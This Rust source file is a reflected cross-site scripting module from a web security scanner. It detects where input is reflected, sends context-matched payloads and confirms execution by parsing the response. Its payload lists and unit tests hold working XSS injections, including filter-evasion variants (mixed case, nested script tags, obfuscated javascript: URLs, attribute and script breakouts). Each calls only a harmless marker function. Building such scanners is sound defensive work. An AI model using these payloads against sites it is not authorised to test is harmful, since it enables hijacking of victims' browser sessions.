//! Reflected cross-site scripting, context-aware and confirmed by parsing.

use super::common::inject;
use super::xss_confirm::{navigation, settle, uncertainty, Pending, Try, MAX_TRIES};
use crate::catalogue::{locs, module_id, OWASP_A03};
use crate::client::{SendError, Sent};
use crate::ctx::{Ctx, Hit};
use crate::finding::Confidence;
use crate::target::{InsertionPoint, Resource};
use rampart_domain::catalogue::{AttackMeta, ModuleMeta};
use rampart_domain::{ModuleType, Severity};
use scraper::{Html, Node};

pub(crate) const KEY: &str = "xss_reflected";

pub(crate) fn meta() -> ModuleMeta {
    ModuleMeta {
        id: module_id(KEY),
        key: KEY,
        name: "Cross-Site Scripting (Reflected)",
        description: "<p>Request input is reflected into the page without context-appropriate encoding, so an attacker can craft a link that runs script in the victim's browser session.</p><p>The engine first sends a unique canary to learn where and how it is reflected, then a payload built for that exact context, and confirms by parsing the response as HTML.</p>",
        recommendation: "Encode output for its context (HTML text, attribute, JavaScript string, URL) with a templating engine that escapes by default; add a strict Content-Security-Policy.",
        module_type: ModuleType::Active,
        severity: Severity::Medium,
        cwe: 79,
        wasc: Some(8),
        owasp_2021: "A03:2021-Injection",
        cvss_vector: "CVSS:3.1/AV:N/AC:L/PR:N/UI:R/S:C/C:L/I:L/A:N",
        parameter_locations: locs::INPUTS,
        references: &[
            ("CWE-79: Improper Neutralization of Input During Web Page Generation", "https://cwe.mitre.org/data/definitions/79.html"),
            ("OWASP XSS Prevention Cheat Sheet", "https://cheatsheetseries.owasp.org/cheatsheets/Cross_Site_Scripting_Prevention_Cheat_Sheet.html"),
            OWASP_A03,
        ],
        attacks: &[
            AttackMeta {
                id: "XSS_01",
                kind: "HTML text context",
                class: "Cross-Site Scripting",
                description: "A new element injected into HTML text, confirmed as a parsed element.",
            },
            AttackMeta {
                id: "XSS_02",
                kind: "HTML attribute context",
                class: "Cross-Site Scripting",
                description: "Breaking out of a quoted or unquoted attribute to add an event-handler attribute, confirmed by parsing.",
            },
            AttackMeta {
                id: "XSS_03",
                kind: "Script context",
                class: "Cross-Site Scripting",
                description: "Breaking out of a JavaScript string or closing the script element, confirmed by parsing the script text.",
            },
            AttackMeta {
                id: "XSS_04",
                kind: "URL attribute context",
                class: "Cross-Site Scripting",
                description: "A javascript: URL injected into an attribute browsers navigate to (a/area href, iframe src, form action, formaction, object data; never script src or link href), confirmed by parsing.",
            },
            AttackMeta {
                id: "XSS_05",
                kind: "Tag-name and attribute-name contexts",
                class: "Cross-Site Scripting",
                description: "Input that becomes a tag name or an attribute name gains an event handler, confirmed by parsing.",
            },
            AttackMeta {
                id: "XSS_06",
                kind: "JavaScript comment context",
                class: "Cross-Site Scripting",
                description: "Ending a // comment with a line terminator or a /* */ comment with */, confirmed by parsing the script text.",
            },
        ],
    }
}

/// Where a canary landed.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Context {
    /// HTML text inside an ordinary element.
    Text,
    /// Inside `<textarea>`, `<title>`, `<style>`, `<noscript>`…: must close the element first.
    RawText(String),
    /// Inside a `<script>` element.
    Script,
    /// Inside an attribute value with the given quote (`None` = unquoted).
    Attr(Option<char>),
    /// At the start of a URL-valued attribute.
    Url,
    /// Inside an `on*` event-handler attribute.
    Handler,
    Comment,
    /// The input is (part of) a tag name: `<INPUT>`.
    TagName,
    /// The input is (part of) an attribute name: `<div INPUT>`.
    AttrName,
    /// Inside a `//` comment of a script.
    ScriptLineComment,
    /// Inside a `/* */` comment of a script.
    ScriptBlockComment,
}

/// Where in a script a position falls.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum JsRegion {
    Code,
    Str,
    LineComment,
    BlockComment,
}

/// The region of `js` in which `needle` first occurs.
fn js_region(js: &str, needle: &str) -> Option<JsRegion> {
    let at = js.find(needle)?;
    let b = js.as_bytes();
    let mut i = 0;
    let mut region = JsRegion::Code;
    let mut quote = 0u8;
    while i < at {
        match region {
            JsRegion::Code => {
                if b[i..].starts_with(b"//") {
                    region = JsRegion::LineComment;
                    i += 1;
                } else if b[i..].starts_with(b"/*") {
                    region = JsRegion::BlockComment;
                    i += 1;
                } else if matches!(b[i], b'\'' | b'"' | b'`') {
                    region = JsRegion::Str;
                    quote = b[i];
                }
            }
            JsRegion::Str => {
                if b[i] == b'\\' {
                    i += 1;
                } else if b[i] == quote {
                    region = JsRegion::Code;
                }
            }
            JsRegion::LineComment => {
                if line_end(&b[i..]) {
                    region = JsRegion::Code;
                }
            }
            JsRegion::BlockComment => {
                if b[i..].starts_with(b"*/") {
                    region = JsRegion::Code;
                    i += 1;
                }
            }
        }
        i += 1;
    }
    Some(region)
}

/// Whether a browser runs a `javascript:` URL held by attribute `attr` of element `tag`
/// (followed as a link, loaded as a frame, submitted): never for `<script src>`,
/// `<link href>`, `<img src>`.
pub(crate) fn runs_js_url(tag: &str, attr: &str) -> bool {
    matches!(
        (tag, attr),
        ("a" | "area", "href")
            | ("iframe" | "frame", "src")
            | ("form", "action")
            | ("button" | "input", "formaction")
            | ("object", "data")
    )
}

/// The contexts in which `canary` appears in `html`.
pub(crate) fn contexts(html: &str, canary: &str) -> Vec<Context> {
    let doc = Html::parse_document(html);
    let mut out = Vec::new();
    for node in doc.tree.nodes() {
        match node.value() {
            Node::Text(t) if t.contains(canary) => {
                let parent = node
                    .parent()
                    .and_then(|p| p.value().as_element().map(|e| e.name().to_string()));
                let c = match parent.as_deref() {
                    Some("script") => match js_region(t, canary) {
                        Some(JsRegion::LineComment) => Context::ScriptLineComment,
                        Some(JsRegion::BlockComment) => Context::ScriptBlockComment,
                        _ => Context::Script,
                    },
                    Some(
                        n @ ("textarea" | "title" | "style" | "noscript" | "xmp" | "iframe"
                        | "noembed"),
                    ) => Context::RawText(n.to_string()),
                    _ => Context::Text,
                };
                out.push(c);
            }
            Node::Comment(c) if c.contains(canary) => out.push(Context::Comment),
            Node::Element(e) => {
                let lc = canary.to_ascii_lowercase();
                if e.name().contains(&lc) {
                    out.push(Context::TagName);
                }
                for (name, value) in e.attrs() {
                    if name.contains(&lc) {
                        out.push(Context::AttrName);
                    }
                    if !value.contains(canary) {
                        continue;
                    }
                    let c = if name.starts_with("on") {
                        Context::Handler
                    } else if runs_js_url(e.name(), name) && value.trim_start().starts_with(canary)
                    {
                        Context::Url
                    } else {
                        Context::Attr(quote_of(html, name, canary))
                    };
                    out.push(c);
                }
            }
            _ => {}
        }
    }
    out.dedup();
    out
}

/// The quote used around `attr="…canary…"` in the raw text.
fn quote_of(html: &str, attr: &str, canary: &str) -> Option<char> {
    let re = regex::Regex::new(&format!(
        r#"(?i){}\s*=\s*(["']?)[^"'>]*?{}"#,
        regex::escape(attr),
        regex::escape(canary)
    ))
    .ok()?;
    re.captures(html)
        .and_then(|c| c.get(1))
        .and_then(|m| m.as_str().chars().next())
}

/// `needle` occurs in `js` as code: outside strings, template literals and comments.
pub(crate) fn in_code(js: &str, needle: &str) -> bool {
    let b = js.as_bytes();
    let mut i = 0;
    let mut state: Option<u8> = None; // quote char when inside a string
    while i < b.len() {
        match state {
            None => {
                if b[i..].starts_with(needle.as_bytes()) {
                    return true;
                }
                if b[i..].starts_with(b"//") {
                    while i < b.len() && !line_end(&b[i..]) {
                        i += 1;
                    }
                } else if b[i..].starts_with(b"/*") {
                    i = js[i + 2..].find("*/").map_or(b.len(), |e| i + 2 + e + 2);
                    continue;
                } else if matches!(b[i], b'\'' | b'"' | b'`') {
                    state = Some(b[i]);
                }
            }
            Some(q) => {
                if b[i] == b'\\' {
                    i += 1;
                } else if b[i] == q {
                    state = None;
                }
            }
        }
        i += 1;
    }
    false
}

/// A JavaScript line terminator starts `b`: LF, CR, U+2028 or U+2029.
fn line_end(b: &[u8]) -> bool {
    matches!(b.first(), Some(b'\n' | b'\r'))
        || b.starts_with("\u{2028}".as_bytes())
        || b.starts_with("\u{2029}".as_bytes())
}

/// The payload proves script execution in the parsed page (in any of the ways of [`Runs`]).
pub(crate) fn proven(html: &str, marker: &str) -> bool {
    proof(html, marker).is_some()
}

/// How a parsed proof of the marker runs in a browser, most certain first.
#[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub(crate) enum Runs {
    /// On its own when the page loads: a script element, `onload`/`onerror`, a focus handler
    /// on an autofocused control, a `javascript:` frame.
    Always,
    /// Only when the visitor acts on an element: a mouse or click handler, a `javascript:`
    /// link or form action.
    OnInteraction,
    /// Only if the page's own script brings it to life, or in some browsers: inside a
    /// `<template>` or a `<script>` of a non-script type (client-side templates), a
    /// `javascript:` URL in `<object data>`.
    Dormant,
}

/// Event-handler attributes that fire without the visitor doing anything.
const AUTO_HANDLERS: &[&str] = &[
    "onload",
    "onerror",
    "onpageshow",
    "onbegin",
    "onanimationstart",
    "onanimationend",
    "onanimationiteration",
    "ontransitionend",
    "oncontentvisibilityautostatechange",
];

/// Elements that take focus by themselves with `autofocus`.
fn focusable(e: &scraper::node::Element) -> bool {
    matches!(
        e.name(),
        "input" | "select" | "textarea" | "button" | "iframe" | "summary"
    ) || (e.name() == "a" && e.attr("href").is_some())
        || e.attr("tabindex").is_some()
        || e.attr("contenteditable").is_some()
}

/// A script element whose text runs: no type, or a JavaScript one.
fn script_runs(e: &scraper::node::Element) -> bool {
    let t = e.attr("type").unwrap_or("").trim().to_ascii_lowercase();
    t.is_empty()
        || t == "module"
        || matches!(
            t.as_str(),
            "text/javascript" | "application/javascript" | "text/ecmascript" | "application/ecmascript" | "text/jscript"
        )
}

/// The strongest way the marker's call runs in the parsed page, or `None` when it never does.
/// Handlers on `<param>` are no proof: the element is never rendered, so no event reaches it.
pub(crate) fn proof(html: &str, marker: &str) -> Option<Runs> {
    let call = format!("{marker}(");
    let doc = Html::parse_document(html);
    let mut best: Option<Runs> = None;
    let mut take = |r: Runs| best = Some(best.map_or(r, |b| b.min(r)));
    for node in doc.tree.nodes() {
        let Node::Element(e) = node.value() else {
            continue;
        };
        // Template contents hang under the template element (a fragment node).
        let dormant = node.ancestors().any(|a| {
            a.value().as_element().is_some_and(|p| {
                p.name() == "template" || (p.name() == "script" && !script_runs(p))
            })
        });
        let mut site = |r: Runs| take(if dormant { Runs::Dormant } else { r });
        for (name, value) in e.attrs() {
            if name.starts_with("on") && e.name() != "param" && in_code(value, &call) {
                let auto = AUTO_HANDLERS.contains(&name)
                    || (matches!(name, "onfocus" | "onfocusin")
                        && e.attr("autofocus").is_some()
                        && focusable(e))
                    || (name == "ontoggle" && e.attr("open").is_some());
                site(if auto { Runs::Always } else { Runs::OnInteraction });
            }
            // The URL parser drops tabs and line breaks anywhere and spaces around.
            let url: String = value
                .chars()
                .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
                .collect();
            let url = url.trim_matches(|c: char| c <= ' ');
            if runs_js_url(e.name(), name)
                && url.len() > 11
                && url[..11].eq_ignore_ascii_case("javascript:")
                && in_code(&url[11..], &call)
            {
                site(match (e.name(), name) {
                    ("iframe" | "frame", "src") => Runs::Always,
                    ("object", "data") => Runs::Dormant,
                    _ => Runs::OnInteraction,
                });
            }
        }
        if e.name() == "script" {
            let text: String = node
                .children()
                .filter_map(|c| c.value().as_text().map(|t| t.to_string()))
                .collect();
            if in_code(&text, &call) {
                site(if script_runs(e) { Runs::Always } else { Runs::Dormant });
            }
        }
    }
    best
}

/// Payloads for one context; `{m}` is the marker function name.
pub(crate) fn payloads(c: &Context, m: &str) -> Vec<(&'static str, String)> {
    let el = format!("<svg onload={m}()>");
    match c {
        // Then evasions of common filters: spaces, parentheses, case, strip-once, tags
        // browsers sniff a response by.
        Context::Text => vec![
            ("XSS_01", el),
            ("XSS_01", format!("<img src=x onerror={m}()>")),
            ("XSS_01", format!("<script>{m}()</script>")),
            ("XSS_01", format!("<svg/onload={m}()>")),
            ("XSS_01", format!("<svg/onload={m}&#40;&#41;>")),
            ("XSS_01", format!("<ScRiPt>{m}()</sCrIpT>")),
            ("XSS_01", format!("<scr<script>ipt>{m}()</scr</script>ipt>")),
            ("XSS_01", format!("<iframe onload={m}()>")),
        ],
        Context::TagName => vec![
            ("XSS_05", format!("svg onload={m}() x")),
            ("XSS_05", format!("img src=x onerror={m}() x")),
            ("XSS_05", format!("x>{el}")),
        ],
        Context::AttrName => vec![
            ("XSS_05", format!("onmouseover={m}() x")),
            ("XSS_05", format!("autofocus onfocus={m}() x")),
            ("XSS_05", format!("x>{el}")),
        ],
        Context::ScriptLineComment => vec![
            ("XSS_06", format!("\n{m}();//")),
            ("XSS_06", format!("\u{2028}{m}();//")),
            ("XSS_06", format!("</script>{el}")),
        ],
        Context::ScriptBlockComment => vec![
            ("XSS_06", format!("*/{m}();/*")),
            ("XSS_06", format!("</script>{el}")),
        ],
        Context::RawText(tag) => vec![("XSS_01", format!("</{tag}>{el}"))],
        Context::Comment => vec![("XSS_01", format!("-->{el}"))],
        Context::Attr(Some(q)) => vec![
            ("XSS_02", format!("{q} onmouseover={q}{m}(){q} x={q}")),
            ("XSS_02", format!("{q}>{el}")),
            ("XSS_02", format!("{q}/onmouseover={q}{m}&#40;&#41;{q} x={q}")),
        ],
        Context::Attr(None) => vec![
            ("XSS_02", format!("x onmouseover={m}() ")),
            ("XSS_02", format!("x>{el}")),
        ],
        Context::Url => vec![
            ("XSS_04", format!("javascript:{m}()")),
            ("XSS_04", format!("JaVaScRiPt:{m}()")),
            ("XSS_04", format!("java\tscript:{m}()")),
            ("XSS_04", format!("javascript&#58;{m}()")),
        ],
        Context::Handler => vec![
            ("XSS_03", format!("'-{m}()-'")),
            ("XSS_03", format!("\"-{m}()-\"")),
            ("XSS_03", format!("{m}()")),
        ],
        Context::Script => vec![
            ("XSS_03", format!("'-{m}()-'")),
            ("XSS_03", format!("\"-{m}()-\"")),
            ("XSS_03", format!("`-{m}()-`")),
            ("XSS_03", format!("\\'-{m}()//")),
            ("XSS_03", format!("</script>{el}")),
            ("XSS_03", format!(";{m}();//")),
        ],
    }
}

pub(crate) async fn attack(
    ctx: &Ctx,
    r: &Resource,
    orig: &Sent,
    p: &InsertionPoint,
) -> Result<(), SendError> {
    if ctx.already(KEY, r, Some(p)).await {
        return Ok(());
    }
    // The canary carries quote, tag and backslash characters first (some inputs are echoed
    // only when they hold one, in an error message), then plain (some are rejected).
    let mut landed = None;
    for special in [CANARY_SPECIAL, ""] {
        let canary = format!("rmc{}", crate::rand_id(8));
        let probe = inject(ctx, r, p, &format!("{canary}{special}")).await?;
        let text = probe.response.text();
        if may_render_html(&probe.response) && text.contains(&canary) {
            landed = Some((canary, text));
            break;
        }
    }
    let Some((canary, text)) = landed else {
        return Ok(());
    };
    // An uncertain proof waits while later payloads look for a certain one; if none comes,
    // `xss_confirm::settle` has the browser confirm it, or reports it as uncertain.
    let mut waiting: Option<Pending> = None;
    for c in contexts(&text, &canary) {
        let marker = format!("rmx{}", crate::rand_id(6));
        for (attack_id, payload) in payloads(&c, &marker) {
            let sent = inject(ctx, r, p, &payload).await?;
            if !(renders_html(&sent.response) && proven(&sent.response.text(), &marker)) {
                continue;
            }
            let proof = format!("{marker}() parsed as executable script ({c:?} context)");
            let Some(why) = uncertainty(&sent.response, &marker) else {
                ctx.report_point(r, Some(p), Hit {
                    module: KEY,
                    attack_id,
                    value: &payload,
                    proof,
                    proof_description: PROOF,
                    confidence: Confidence::Confirmed,
                    original: Some(orig),
                    attack: Some(&sent),
                })
                .await;
                return Ok(());
            };
            let w = waiting.get_or_insert_with(|| Pending {
                module: KEY,
                resource: r.clone(),
                point: p.clone(),
                proof,
                proof_description: PROOF,
                original: Some(orig.clone()),
                tries: Vec::new(),
            });
            if w.tries.len() < MAX_TRIES {
                w.tries.push(Try {
                    attack_id,
                    payload,
                    marker: marker.clone(),
                    navigation: navigation(&sent.request, p),
                    attack: sent,
                    replant: None,
                    why,
                });
            }
        }
    }
    if let Some(w) = waiting {
        settle(ctx, w).await;
    }
    Ok(())
}

const PROOF: &str =
    "the injected payload is parsed by an HTML parser as script the browser would run";

/// What follows the canary in the first probe: a quote of each kind, a tag's brackets and a
/// backslash.
const CANARY_SPECIAL: &str = "'\"<>\\";

/// The response is HTML, or has no type and may be sniffed as HTML.
fn may_render_html(r: &crate::http::HttpResponse) -> bool {
    r.is_html() || (r.content_type().is_empty() && !nosniff(r))
}

fn nosniff(r: &crate::http::HttpResponse) -> bool {
    r.header("x-content-type-options")
        .is_some_and(|v| v.trim().eq_ignore_ascii_case("nosniff"))
}

/// A browser renders the response as HTML: declared so, or without a declared type and
/// starting with what the MIME sniffing algorithm takes for HTML.
pub(crate) fn renders_html(r: &crate::http::HttpResponse) -> bool {
    let ct = r.content_type().to_ascii_lowercase();
    if !ct.is_empty() {
        return ct.contains("html");
    }
    !nosniff(r) && sniffs_as_html(&r.body)
}

/// The WHATWG MIME sniffing rule for HTML: after leading whitespace, one of the listed tags
/// (case-insensitive) followed by a space or `>`, or a comment.
fn sniffs_as_html(body: &[u8]) -> bool {
    const TAGS: &[&str] = &[
        "<!doctype html", "<html", "<head", "<script", "<iframe", "<h1", "<div", "<font",
        "<table", "<a", "<style", "<title", "<b", "<body", "<br", "<p",
    ];
    let start = body
        .iter()
        .position(|b| !matches!(b, b' ' | b'\t' | b'\n' | b'\r' | b'\x0c'))
        .unwrap_or(body.len());
    let head = String::from_utf8_lossy(&body[start..body.len().min(start + 32)]).to_ascii_lowercase();
    head.starts_with("<!--")
        || TAGS.iter().any(|t| {
            head.starts_with(t) && matches!(head.as_bytes().get(t.len()), Some(b' ' | b'>'))
        })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn new_contexts_are_classified() {
        let c = "rmcq1w2";
        let table: &[(&str, String, Context)] = &[
            ("tag name", format!("<{c}>Title</{c}>"), Context::TagName),
            ("attribute name", format!("<div class=\"w\" {c}>x</div>"), Context::AttrName),
            ("line comment", format!("<script>// campaign {c}\nvar a=1;</script>"), Context::ScriptLineComment),
            ("block comment", format!("<script>/* note {c} */ var a=1;</script>"), Context::ScriptBlockComment),
            ("string after a comment", format!("<script>// x\nvar a='{c}';</script>"), Context::Script),
            ("iframe src", format!("<iframe src=\"{c}\"></iframe>"), Context::Url),
            ("script src is not a URL context", format!("<script src=\"{c}\"></script>"), Context::Attr(Some('"'))),
            ("special canary in an attribute", format!("<input value=\"{c}'\"<>\\\">"), Context::Attr(Some('"'))),
        ];
        for (name, html, want) in table {
            assert!(contexts(html, c).contains(want), "{name}: {:?}", contexts(html, c));
        }
        assert!(!contexts(&format!("<script src=\"{c}\"></script>"), c).contains(&Context::Url));
    }

    #[test]
    fn javascript_urls_prove_only_where_browsers_run_them() {
        let table: &[(&str, bool)] = &[
            ("<a href=\"javascript:rmx1()\">x</a>", true),
            ("<a href=\" JaVaScRiPt:rmx1()\">x</a>", true),
            ("<a href=\"java&#9;script:rmx1()\">x</a>", true),
            ("<iframe src=\"javascript:rmx1()\"></iframe>", true),
            ("<form action=\"javascript:rmx1()\"></form>", true),
            ("<script src=\"javascript:rmx1()\"></script>", false),
            ("<link rel=stylesheet href=\"javascript:rmx1()\">", false),
            ("<img src=\"javascript:rmx1()\">", false),
            ("<script>// x\nrmx1();//</script>", true),
            ("<script>// x rmx1();//</script>", false),
            ("<script>// x\u{2028}rmx1();//</script>", true),
            ("<script>/* x */rmx1();/* */</script>", true),
            ("<script>/* x *\\/rmx1();/* */</script>", false),
            ("<svg onload=rmx1&#40;&#41;>", true),
            ("<div class=\"w\" onmouseover=rmx1() x>x</div>", true),
        ];
        for (html, want) in table {
            assert_eq!(proven(html, "rmx1"), *want, "{html}");
        }
    }

    #[test]
    fn sniffing() {
        use crate::checks::common::recorded;
        let none = |b: &str| recorded(200, &[], b);
        assert!(renders_html(&none("<script>rmx1()</script>")));
        assert!(renders_html(&none("  <b onmouseover=x>")));
        assert!(!renders_html(&none("{\"msg\":\"<script>x</script>\"}")));
        assert!(!renders_html(&none("<svg onload=x>")), "svg is not sniffed");
        assert!(!renders_html(&recorded(200, &[("x-content-type-options", "nosniff")], "<script>x</script>")));
        assert!(!renders_html(&recorded(200, &[("content-type", "text/plain")], "<script>x</script>")));
        assert!(renders_html(&recorded(200, &[("content-type", "text/html")], "x")));
    }

    #[test]
    fn contexts_and_proofs() {
        let c = "rmcabc";
        let page = format!("<p>{c}</p><input value=\"{c}\"><a href=\"{c}\">x</a><script>var a='{c}';</script><textarea>{c}</textarea>");
        let ctxs = contexts(&page, c);
        assert!(ctxs.contains(&Context::Text));
        assert!(ctxs.contains(&Context::Attr(Some('"'))));
        assert!(ctxs.contains(&Context::Url));
        assert!(ctxs.contains(&Context::Script));
        assert!(ctxs.contains(&Context::RawText("textarea".into())));
        assert!(proven("<p><svg onload=rmx1()></p>", "rmx1"));
        assert!(!proven("<p>&lt;svg onload=rmx1()&gt;</p>", "rmx1"));
        assert!(proven("<script>var a=''-rmx1()-'';</script>", "rmx1"));
        assert!(!proven("<script>var a='\\'-rmx1()-\\'';</script>", "rmx1"));
        assert!(!proven("<textarea><svg onload=rmx1()></textarea>", "rmx1"));
        assert!(proven("<a href=\"javascript:rmx1()\">x</a>", "rmx1"));
    }

    /// Recorded responses to a payload with marker `rmx1`: executed or inert.
    #[test]
    fn recorded_responses() {
        let table: &[(&str, &str, bool)] = &[
            (
                "svg in text",
                "<html><body><p>Results for <svg onload=rmx1()></p></body></html>",
                true,
            ),
            ("img onerror", "<div><img src=x onerror=rmx1()></div>", true),
            (
                "attribute breakout",
                "<input name=\"q\" value=\"\" onmouseover=\"rmx1()\" x=\"\">",
                true,
            ),
            (
                "attribute breakout to element",
                "<input value=\"\"><svg onload=rmx1()>\">",
                true,
            ),
            (
                "script string breakout",
                "<script>var q = ''-rmx1()-'';</script>",
                true,
            ),
            (
                "script statement",
                "<script>var q = 1;rmx1();//;</script>",
                true,
            ),
            (
                "closing textarea",
                "<textarea></textarea><svg onload=rmx1()></textarea>",
                true,
            ),
            (
                "html-escaped in text",
                "<p>Results for &lt;svg onload=rmx1()&gt;</p>",
                false,
            ),
            (
                "escaped quote in attribute",
                "<input value=\"&quot; onmouseover=&quot;rmx1()&quot; x=&quot;\">",
                false,
            ),
            (
                "escaped quote in script",
                "<script>var q = '\\'-rmx1()-\\'';</script>",
                false,
            ),
            (
                "json-escaped in script",
                "<script>var q = \"\\\"-rmx1()-\\\"\";</script>",
                false,
            ),
            (
                "inside textarea",
                "<textarea><svg onload=rmx1()></textarea>",
                false,
            ),
            ("inside html comment", "<!-- <svg onload=rmx1()> -->", false),
            (
                "inside js comment",
                "<script>// rmx1()\nvar a = 1;</script>",
                false,
            ),
            (
                "javascript url escaped to relative",
                "<a href=\"./javascript:rmx1()\">x</a>",
                false,
            ),
            (
                "marker as plain text",
                "<p>rmx1() is not a function</p>",
                false,
            ),
        ];
        for (name, html, want) in table {
            assert_eq!(proven(html, "rmx1"), *want, "{name}");
        }
    }

    #[test]
    fn contexts_of_recorded_reflections() {
        let c = "rmcq1w2";
        let table: &[(&str, String, Context)] = &[
            (
                "single-quoted attribute",
                format!("<input value='{c}'>"),
                Context::Attr(Some('\'')),
            ),
            (
                "unquoted attribute",
                format!("<input value={c}>"),
                Context::Attr(None),
            ),
            (
                "event handler",
                format!("<button onclick=\"go('{c}')\">x</button>"),
                Context::Handler,
            ),
            ("comment", format!("<!-- search: {c} -->"), Context::Comment),
            (
                "title",
                format!("<title>{c}</title>"),
                Context::RawText("title".into()),
            ),
            ("link url", format!("<a href=\"{c}.html\">x</a>"), Context::Url),
            (
                "img src: javascript: never runs there",
                format!("<img src=\"{c}.png\">"),
                Context::Attr(Some('"')),
            ),
            (
                "href not at start",
                format!("<a href=\"/s?q={c}\">x</a>"),
                Context::Attr(Some('"')),
            ),
        ];
        for (name, html, want) in table {
            assert!(
                contexts(html, c).contains(want),
                "{name}: {:?}",
                contexts(html, c)
            );
        }
        assert!(contexts("<p>&lt;rmc&gt;</p>", c).is_empty());
        for ctx in [
            Context::Text,
            Context::Script,
            Context::Url,
            Context::Handler,
            Context::Comment,
            Context::Attr(None),
            Context::Attr(Some('"')),
            Context::RawText("title".into()),
            Context::TagName,
            Context::AttrName,
            Context::ScriptLineComment,
            Context::ScriptBlockComment,
        ] {
            let p = payloads(&ctx, "rmx1");
            assert!(
                !p.is_empty() && p.iter().all(|(_, v)| v.contains("rmx1")),
                "{ctx:?}"
            );
        }
    }
}
